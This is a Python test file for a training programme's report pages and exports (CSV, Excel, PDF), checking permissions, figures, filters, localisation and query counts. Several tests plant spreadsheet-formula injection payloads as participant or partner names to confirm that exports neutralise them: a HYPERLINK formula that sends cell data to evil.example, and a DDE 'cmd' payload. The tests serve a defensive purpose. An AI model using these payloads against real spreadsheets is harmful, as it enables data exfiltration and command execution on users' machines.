"""The reports pages, drill-downs and exports: permissions for every role,
figures on the page, bad filters, spreadsheet safety, fixed query counts."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook
from pypdf import PdfReader

from tests import factories
from tests.conftest import is_postgres
from training.extensions import db
from training.models import SessionStatus, Sex
from training.reports import projection
from training.reports.queries import ReportFilters, build_report

ROUTES = [
    "/reports",
    "/reports/participants",
    "/reports/sessions",
    "/reports/export.csv",
    "/reports/export.xlsx",
    "/reports/export-participants.xlsx",
    "/reports/export-participants.csv",
    "/reports/donor-report.pdf",
]


def participants_workbook(client, query: str = ""):
    """The participant-level workbook as a coordinator gets it: asked for,
    written by a job (inline under test), downloaded from the job's page."""
    asked = client.post(f"/reports/export-participants.xlsx{query}")
    assert asked.status_code == 303, asked.get_data(as_text=True)
    job_url = asked.headers["Location"]
    assert job_url.startswith("/jobs/")
    page = client.get(job_url).get_data(as_text=True)
    assert "The file is ready." in page, page
    return client.get(f"{job_url}/result")


@pytest.mark.parametrize("url", ROUTES)
@pytest.mark.parametrize(
    ("role", "status"),
    [("admin", 200), ("coordinator", 200), ("trainer", 403), ("participant", 403)],
)
def test_who_may_open_the_reports(client, login_as, url, role, status):
    login_as(role)
    assert client.get(url).status_code == status


def test_reports_page_shows_the_figures_charts_and_definitions(client, login_as, programme):
    login_as("coordinator")
    response = client.get("/reports")
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    for text in ("Sessions held", "People trained", "Share of women", "50.0%", "40.0%", "88.5%"):
        assert text in page
    # The mean gain is exactly 31.25: the page rounds half to even (Babel's
    # format_decimal), on SQLite and PostgreSQL alike.
    assert build_report(ReportFilters()).headline.mean_knowledge_gain == 31.25
    assert "31.2 points" in page and "31.3 points" not in page
    assert page.count('role="img"') == 3
    assert "<title id=" in page
    assert "People trained per year, by sex" in page
    assert "How these figures are counted" in page
    assert "<script>" not in page
    # Every headline figure links to what is behind it.
    assert "/reports/sessions" in page
    assert "/reports/participants?sex=F" in page


def test_filters_narrow_the_page(client, login_as, programme):
    login_as("coordinator")
    page = client.get("/reports?country=NE&theme=counter_terrorism").get_data(as_text=True)
    assert "94.4%" in page  # 17 of 18 periods
    assert "Counter-terrorism" in page


@pytest.mark.parametrize(
    "query",
    [
        "country=XX",
        "country=Narnia",
        "date_from=2025-13-45",
        "date_from=yesterday",
        "date_from=2026-01-01&date_to=2025-01-01",
        "theme=astrology",
        "curriculum=abc",
        "curriculum=999999",
        "organisation_kind=pirates",
        "partner=-1",
    ],
)
def test_bad_filters_give_the_form_with_its_error(client, login_as, programme, query):
    login_as("coordinator")
    for url in ("/reports", "/reports/export.csv", "/reports/export.xlsx", "/reports/participants"):
        response = client.get(f"{url}?{query}")
        assert response.status_code == 400, url
        assert "Some filters are not valid" in response.get_data(as_text=True)


def test_bad_drill_down_arguments_give_400(client, login_as, programme):
    login_as("coordinator")
    for query in ("sex=X", "year=abc", "certificate=diploma", "nationality=ZZ"):
        assert client.get(f"/reports/participants?{query}").status_code == 400
        assert client.get(f"/reports/sessions?{query}").status_code == 400


def test_drill_down_lists_the_people_behind_a_cell(client, login_as, programme):
    login_as("coordinator")
    page = client.get("/reports/participants?sex=F").get_data(as_text=True)
    assert "2 participants" in page
    assert programme.a.family_name.upper() in page
    assert programme.c.family_name.upper() in page
    assert programme.b.family_name.upper() not in page
    page = client.get("/reports/participants?nationality=none").get_data(as_text=True)
    assert programme.d.family_name.upper() in page
    page = client.get("/reports/participants?organisation_kind=none").get_data(as_text=True)
    assert "1 participant" in page
    page = client.get("/reports/sessions?theme=counter_terrorism&year=2025").get_data(as_text=True)
    assert programme.s1.code in page and programme.s4.code in page
    assert programme.s2.code not in page


def test_every_table_cell_links_to_a_drill_down_that_agrees(client, login_as, programme):
    login_as("coordinator")
    page = client.get("/reports").get_data(as_text=True)
    assert "/reports/participants?nationality=ML" in page
    assert "/reports/participants?organisation_kind=none" in page
    assert "/reports/sessions?theme=drugs&amp;year=2026" in page


def test_csv_export_holds_every_table_as_a_section(client, login_as, programme):
    login_as("coordinator")
    response = client.get("/reports/export.csv?country=NE")
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "no-store"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="atelier-report-')
    assert disposition.endswith('.csv"')
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0] == ["Filters"]
    assert ["Country of the session", "Niger"] in rows
    assert ["People trained", "3", ""] in rows
    assert ["Attendance rate", "94.4", "%"] in rows
    assert ["Headline figures"] in rows
    assert ["People trained by nationality and sex"] in rows
    assert ["Sessions and people trained by theme and year"] in rows


def test_xlsx_export_has_a_filters_sheet_and_one_sheet_per_table(client, login_as, programme):
    login_as("admin")
    response = client.get("/reports/export.xlsx?theme=drugs")
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Disposition"].endswith('.xlsx"')
    workbook = load_workbook(io.BytesIO(response.data))
    assert workbook.sheetnames == [
        "Filters",
        "Headline",
        "Nationality × sex",
        "Organisation kind × sex",
        "Theme × year",
        "Knowledge gain",
    ]
    filters = workbook["Filters"]
    assert filters["A2"].value == "Theme" and filters["B2"].value == "Drugs"
    for sheet in workbook.worksheets:
        assert sheet.freeze_panes == "A2"
        assert sheet["A1"].font.bold
    headline = {
        row[0]: row[1] for row in workbook["Headline"].iter_rows(min_row=2, values_only=True)
    }
    assert headline["People trained"] == 2
    assert headline["Attendance rate"] == 75.0
    assert headline["Mean knowledge gain"] == 27.5


def test_participant_export_is_spreadsheet_safe(client, login_as, programme):
    programme.a.family_name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    programme.b.given_name = "+33 1 23"
    programme.c.given_name = "@SUM(A1:A2)"
    programme.d.given_name = "-2+3"
    db.session.commit()
    login_as("coordinator")
    response = participants_workbook(client)
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "no-store"
    assert 'filename="atelier-participants-' in response.headers["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.data)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "Family name"
    assert sheet.freeze_panes == "A2"
    assert len(rows) == 6  # five person-trainings and the header
    family_names = [row[0] for row in rows[1:]]
    given_names = [row[1] for row in rows[1:]]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")' in family_names
    assert not any(str(name).startswith("=") for name in family_names)
    assert {"'+33 1 23", "'@SUM(A1:A2)", "'-2+3"} <= set(given_names)


def test_csv_export_neutralises_formulas(client, login_as, programme):
    programme.partner.name = "=cmd|' /C calc'!A0"
    programme.partner.acronym = None  # the cell starts with the name
    db.session.commit()
    login_as("coordinator")
    body = client.get(f"/reports/export.csv?partner={programme.partner.id}").get_data(as_text=True)
    assert "'=cmd|' /C calc'!A0" in body


def test_donor_report_pdf(client, login_as, programme):
    login_as("coordinator")
    response = client.get("/reports/donor-report.pdf?country=NE")
    assert response.status_code == 200
    assert response.mimetype == "application/pdf"
    assert response.headers["Cache-Control"] == "no-store"
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(response.data)).pages)
    assert "Programme results" in text
    assert "Niger" in text
    assert "Headline figures" in text
    assert "People trained by nationality and sex" in text
    assert "94.4%" in text


def test_donor_report_speaks_french(client, login_as, programme):
    user = login_as("coordinator", locale="fr")
    assert user.locale == "fr"
    response = client.get("/reports/donor-report.pdf")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].endswith('.pdf"')
    pages = PdfReader(io.BytesIO(response.data)).pages
    text = "\n".join(page.extract_text() for page in pages).replace("\u00a0", " ")
    assert "Résultats du programme" in text
    assert "Chiffres clés" in text
    # French spacing on the cover, and decimal commas on the chart's bars.
    assert "Toutes les années : 2025–2026" in pages[0].extract_text().replace("\u00a0", " ")
    gains = [row.mean_knowledge_gain for row in build_report(ReportFilters()).gain_by_theme]
    decimal = next(gain for gain in gains if round(gain, 1) != round(gain))
    assert f"{round(decimal, 1):g}".replace(".", ",") in text
    assert f"{round(decimal, 1):g}" not in text


def _grow(programme, sessions: int) -> None:
    """More sessions, participants and records: the query count must not move."""
    for number in range(sessions):
        training_session = factories.make_session(
            programme.curriculum_ct,
            start_date=date(2024, 1 + number, 8),
            status=SessionStatus.COMPLETED,
            country="BF",
        )
        for _ in range(3):
            enrollment = factories.enroll(
                factories.make_participant(sex=Sex.MALE, nationality="BF"),
                training_session,
                pre_test_score=10,
                post_test_score=20,
            )
            factories.mark_all(enrollment)
    db.session.commit()


@pytest.mark.parametrize(
    "url", ["/reports", "/reports/export.csv", "/reports/export.xlsx", "/reports/participants"]
)
def test_query_count_does_not_grow_with_the_data(client, login_as, programme, count_queries, url):
    login_as("coordinator")
    client.get(url)
    db.session.commit()  # every measure starts from a fresh transaction
    with count_queries() as small:
        assert client.get(url).status_code == 200
    _grow(programme, 4)
    db.session.commit()
    projection.catch_up()  # the growth's rows, caught up once; then the page is measured
    with count_queries() as large:
        assert client.get(url).status_code == 200
    assert len(large) == len(small)
    assert len(small) <= 20


def test_exports_and_the_donor_report_survive_what_is_stored(client, login_as, programme):
    """Values stored before text was cleaned at the door (a vertical tab from
    Word, other control characters, a 2,000-character name): every export
    and the donor report are produced, the text readable."""
    programme.a.given_name = "Moussa\x0bIbrahim"
    # PostgreSQL's text holds no NUL: only SQLite can have stored one.
    programme.b.family_name = "Diallo\x00\x1f" if not is_postgres() else "Diallo\x1f"
    # PostgreSQL enforces the column's 100 characters; SQLite stored more.
    programme.c.family_name = ("Abdoulaye " * 200)[: 100 if is_postgres() else None]
    programme.partner.name = "Partenaire\x0b\x07"
    db.session.commit()
    login_as("coordinator")
    response = participants_workbook(client)
    assert response.status_code == 200
    rows = list(load_workbook(io.BytesIO(response.data)).active.iter_rows(values_only=True))
    names = {row[1] for row in rows[1:]} | {row[0] for row in rows[1:]}
    assert "Moussa Ibrahim" in names and "Diallo" in names
    response = client.get("/reports/export.xlsx")
    assert response.status_code == 200
    cells = [
        value
        for sheet in load_workbook(io.BytesIO(response.data)).worksheets
        for row in sheet.iter_rows(values_only=True)
        for value in row
    ]
    assert not any(isinstance(cell, str) and "\x0b" in cell for cell in cells)
    response = client.get("/reports/export.csv")
    assert response.status_code == 200 and b"\x0b" not in response.data
    response = client.get("/reports/donor-report.pdf")
    assert response.status_code == 200 and response.data.startswith(b"%PDF")


def test_the_participant_csv_streams_every_person_training_spreadsheet_safe(
    client, login_as, programme
):
    programme.a.family_name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    db.session.commit()
    login_as("coordinator")
    response = client.get("/reports/export-participants.csv")
    assert response.status_code == 200
    assert response.is_streamed
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Cache-Control"] == "no-store"
    assert 'filename="atelier-participants-' in response.headers["Content-Disposition"]
    body = response.get_data(as_text=True)
    assert body.startswith("\ufeffFamily name,Given name,Sex")
    rows = list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))
    assert len(rows) == 6  # the header and the five person-trainings, as in the workbook
    assert any(row[0].startswith("'=HYPERLINK") for row in rows[1:])
    assert not any(row[0].startswith("=") for row in rows[1:])


def test_the_participant_csv_follows_the_filters_and_refuses_bad_ones(client, login_as, programme):
    login_as("coordinator")
    body = client.get("/reports/export-participants.csv?country=ML").get_data(as_text=True)
    assert len(list(csv.reader(io.StringIO(body)))) == 3  # S2's two person-trainings
    assert client.get("/reports/export-participants.csv?date_from=yesterday").status_code == 400


def test_asking_for_the_workbook_by_link_changes_nothing_and_offers_both(client, login_as):
    from training.jobs.models import Job

    login_as("coordinator")
    page = client.get("/reports/export-participants.xlsx?country=ML")
    assert page.status_code == 200
    text = page.get_data(as_text=True)
    assert "Prepare the Excel file" in text
    assert "/reports/export-participants.csv?country=ML" in text
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Job)) == 0


def _excel_fr_rows(response) -> list[list[str]]:
    body = response.data
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark, for Excel
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def test_the_french_excel_csv_splits_on_semicolons_with_decimal_commas(client, login_as, programme):
    login_as("coordinator", locale="fr")
    response = client.get("/reports/export.csv?dialect=excel-fr")
    assert response.status_code == 200
    # One charset, named once.
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers.get_all("Content-Type") == ["text/csv; charset=utf-8"]
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="atelier-rapport-')
    rows = _excel_fr_rows(response)
    assert rows[0] == ["Filtres"]
    rates = [row for row in rows if row and row[0] == "Taux de présence"]
    assert rates == [["Taux de présence", "88,5", "%"]]
    gains = {row[0]: row[1] for row in rows if len(row) == 3 and row[2] in {"1", "2"}}
    assert gains["Drogues"] == "27,5"  # (5 + 50) / 2 points
    # Whole numbers stay whole; no cell keeps a decimal point.
    assert ["Personnes formées", "4", ""] in rows
    assert not any("." in cell and cell.replace(".", "").isdigit() for row in rows for cell in row)


def test_the_international_csv_keeps_commas_and_decimal_points(client, login_as, programme):
    login_as("coordinator", locale="fr")
    response = client.get("/reports/export.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert ["Taux de présence", "88.5", "%"] in rows


def test_the_participant_csv_in_french_excel_streams_with_semicolons(client, login_as, programme):
    login_as("coordinator", locale="fr")
    response = client.get("/reports/export-participants.csv?dialect=excel-fr")
    assert response.status_code == 200
    assert response.is_streamed
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="atelier-participants-' in response.headers["Content-Disposition"]
    rows = _excel_fr_rows(response)
    assert rows[0][:3] == ["Nom", "Prénom", "Sexe"]
    assert len(rows) == 6 and all(len(row) == len(rows[0]) for row in rows)


@pytest.mark.parametrize(
    "url", ["/reports/export.csv?dialect=excel", "/reports/export-participants.csv?dialect=;"]
)
def test_an_unknown_csv_dialect_is_refused(client, login_as, url):
    login_as("coordinator")
    assert client.get(url).status_code == 400


def test_download_names_are_in_the_readers_language(client, login_as, programme):
    login_as("coordinator", locale="fr")
    names = {
        url: client.get(url).headers["Content-Disposition"]
        for url in ("/reports/export.xlsx", "/reports/donor-report.pdf")
    }
    assert 'filename="atelier-rapport-' in names["/reports/export.xlsx"]
    assert 'filename="atelier-rapport-bailleurs-' in names["/reports/donor-report.pdf"]


def test_the_reports_page_offers_both_csv_dialects(client, login_as, programme):
    login_as("coordinator", locale="fr")
    page = client.get("/reports").get_data(as_text=True)
    assert "CSV (Excel, français)" in page and "CSV (international)" in page
    assert "/reports/export.csv?dialect=excel-fr" in page
    assert "/reports/export-participants.csv?dialect=excel-fr" in page
